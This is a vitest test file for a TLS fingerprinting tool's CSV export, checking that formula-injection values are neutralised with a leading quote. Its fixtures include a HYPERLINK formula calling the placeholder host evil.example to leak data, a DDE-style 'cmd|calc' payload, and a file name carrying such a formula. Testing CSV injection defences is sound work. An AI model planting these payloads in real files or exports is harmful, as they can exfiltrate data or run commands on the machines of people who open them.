// Issue 15 point 7: no CSV the product writes lets a spreadsheet formula through. Values come from
// real traffic: a capture whose SNI is a formula (fixtures/README.md says how it was made).
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../common/util/csv.js';
import { parseCsv } from '../../main/storage/migrations/known-fingerprints.js';
import { projectRoot } from '../support/daemon.js';
import { formulaCells } from './csv-cells.js';

const fixture = join(import.meta.dirname, 'fixtures/formula-sni.pcap');
const SNI = ['=HYPERLINK("http://evil.example/?leak","open me")', '@SUM(1+9)*cmd|calc'];

describe('formula-safe CSV cells', () => {
  it('prefixes every OWASP formula start with a quote and quotes the cell', () => {
    for (const v of ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '=A1,"b"'])
      expect(parseCsv(csvLine([v, 'next']))[0]).toEqual([`'${v}`, 'next']);
  });
  it('leaves ordinary text and numbers as they are, negative numbers included', () => {
    expect(csvLine(['curl/8.5.0', 443, -5, 'a,b', 'say "hi"', null, ['h2', 'http/1.1']])).toBe(
      'curl/8.5.0,443,-5,"a,b","say ""hi""",,h2;http/1.1',
    );
    expect(csvCell("it's")).toBe("it's");
  });
});

describe('ja4ws fingerprint --format csv', () => {
  it('neutralises a formula in the SNI of a real handshake and in the capture file name', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ja4ws-csv-'));
    const named = join(dir, '=cmd|calc.pcap');
    copyFileSync(fixture, named);
    const c = spawnSync(
      process.execPath,
      [
        '--import',
        'tsx',
        join(projectRoot, 'main/cli/main.ts'),
        'fingerprint',
        '--format',
        'csv',
        '--quiet',
        named,
      ],
      { cwd: projectRoot, encoding: 'utf8', timeout: 60_000 },
    );
    expect(c.stderr).toBe('');
    expect(c.status).toBe(0);
    const [header, ...rows] = parseCsv(c.stdout);
    const sni = header!.indexOf('tls_server_name');
    const pcap = header!.indexOf('pcap');
    expect(rows.map((row) => row[sni])).toEqual(SNI.map((s) => `'${s}`));
    expect(rows.map((row) => row[pcap])).toEqual(["'=cmd|calc.pcap", "'=cmd|calc.pcap"]);
    expect(formulaCells(rows)).toEqual([]);
  });
});
